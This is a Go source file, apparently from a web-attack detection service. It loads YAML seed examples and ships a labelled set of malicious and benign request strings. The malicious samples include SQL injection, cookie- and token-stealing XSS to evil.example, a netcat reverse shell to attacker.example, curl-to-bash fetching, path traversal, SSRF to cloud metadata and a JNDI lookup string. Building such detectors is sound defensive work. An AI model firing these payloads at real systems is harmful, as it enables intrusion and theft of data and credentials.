package retrieval

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"

	"gopkg.in/yaml.v3"
)

// seedFile is the YAML layout for operator-supplied example sets.
type seedFile struct {
	Examples []Example `yaml:"examples"`
}

// LoadSeedDir reads every .yaml/.yml file in dir and returns the examples.
// Entries without text or with an unknown label are rejected so a typo in a
// seed file surfaces at startup instead of skewing retrieval silently.
func LoadSeedDir(dir string) ([]Example, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, fmt.Errorf("read seed dir %s: %w", dir, err)
	}

	var examples []Example
	for _, entry := range entries {
		if entry.IsDir() {
			continue
		}
		ext := strings.ToLower(filepath.Ext(entry.Name()))
		if ext != ".yaml" && ext != ".yml" {
			continue
		}

		path := filepath.Join(dir, entry.Name())
		data, err := os.ReadFile(path)
		if err != nil {
			return nil, fmt.Errorf("read seed file %s: %w", path, err)
		}

		var sf seedFile
		if err := yaml.Unmarshal(data, &sf); err != nil {
			return nil, fmt.Errorf("parse seed file %s: %w", path, err)
		}

		for i, ex := range sf.Examples {
			if strings.TrimSpace(ex.Text) == "" {
				return nil, fmt.Errorf("seed file %s: example %d has empty text", path, i)
			}
			if ex.Label != "malicious" && ex.Label != "benign" {
				return nil, fmt.Errorf("seed file %s: example %d has unknown label %q", path, i, ex.Label)
			}
			examples = append(examples, ex)
		}
	}
	return examples, nil
}

var (
	cachedExamples     []Example
	cachedExamplesOnce sync.Once
)

// builtinExamples is the shipped precedent set: representative payloads per
// attack family plus benign traffic to anchor the other end of the space.
// Texts are stored lowercase to match the case-folded query.
func builtinExamples() []Example {
	cachedExamplesOnce.Do(func() {
		cachedExamples = []Example{
			// SQL injection
			{"1' or '1'='1' --", "malicious", "sql_injection"},
			{"id=1 union select username, password from users", "malicious", "sql_injection"},
			{"'; drop table orders; --", "malicious", "sql_injection"},
			{"1 and sleep(5)", "malicious", "sql_injection"},
			{"admin'/**/or/**/1=1#", "malicious", "sql_injection"},

			// Cross-site scripting
			{"<script>document.location='http://evil.example/c?'+document.cookie</script>", "malicious", "xss"},
			{"<img src=x onerror=alert(1)>", "malicious", "xss"},
			{"javascript:alert(document.domain)", "malicious", "xss"},
			{"<svg onload=fetch('//evil.example/'+localstorage.token)>", "malicious", "xss"},

			// Command injection
			{"; cat /etc/passwd", "malicious", "command_injection"},
			{"| nc attacker.example 4444 -e /bin/sh", "malicious", "command_injection"},
			{"$(curl http://evil.example/x.sh | bash)", "malicious", "command_injection"},
			{"`id`", "malicious", "command_injection"},

			// Path traversal / file inclusion
			{"../../../../etc/passwd", "malicious", "path_traversal"},
			{"php://filter/convert.base64-encode/resource=index.php", "malicious", "file_inclusion"},
			{"%2e%2e%2f%2e%2e%2fwindows/system32/config/sam", "malicious", "path_traversal"},

			// SSRF
			{"url=http://169.254.169.254/latest/meta-data/iam/", "malicious", "ssrf"},
			{"callback=http://localhost:6379/", "malicious", "ssrf"},
			{"fetch=file:///etc/shadow", "malicious", "ssrf"},

			// Template injection
			{"{{7*7}}", "malicious", "template_injection"},
			{"${jndi:ldap://evil.example/a}", "malicious", "template_injection"},

			// Deserialization
			{"ro0abxnyabfqyxzhlnv0awwusgfzag1hca", "malicious", "deserialization"},
			{"o:8:\"stdclass\":1:{s:4:\"exec\";s:6:\"whoami\";}", "malicious", "deserialization"},

			// Header / log injection
			{"%0d%0aset-cookie:+session=attacker", "malicious", "header_injection"},
			{"user=admin%0a[error]+fake+log+entry", "malicious", "log_injection"},

			// Benign traffic, to anchor the other side of the space
			{"get /index.html http/1.1", "benign", "normal_http"},
			{"get /api/v1/users?page=2&limit=50 http/1.1", "benign", "normal_http"},
			{"post /api/v1/orders http/1.1", "benign", "normal_http"},
			{"get /assets/css/main.css http/1.1", "benign", "normal_http"},
			{"get /health http/1.1", "benign", "normal_http"},
			{"search?q=summer+shoes+size+42", "benign", "normal_query"},
			{"name=alice&email=alice@example.com", "benign", "form_submission"},
			{"hello world", "benign", "greeting"},
		}
	})
	return cachedExamples
}
